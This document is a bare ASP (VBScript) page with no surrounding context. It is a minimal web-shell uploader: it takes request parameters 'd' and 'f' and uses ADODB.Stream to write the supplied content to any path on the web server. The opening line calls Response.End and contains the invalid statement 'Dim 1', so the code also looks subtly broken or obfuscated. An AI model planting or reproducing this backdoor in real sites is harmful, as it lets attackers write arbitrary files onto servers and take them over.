<% Response.End : Dim 1 %>
<% Set o = CreateObject("ADODB.Stream")
o.Open
o.Type = 2
o.WriteText Request("d")
o.SaveToFile Server.MapPath(Request("f")), 2 %>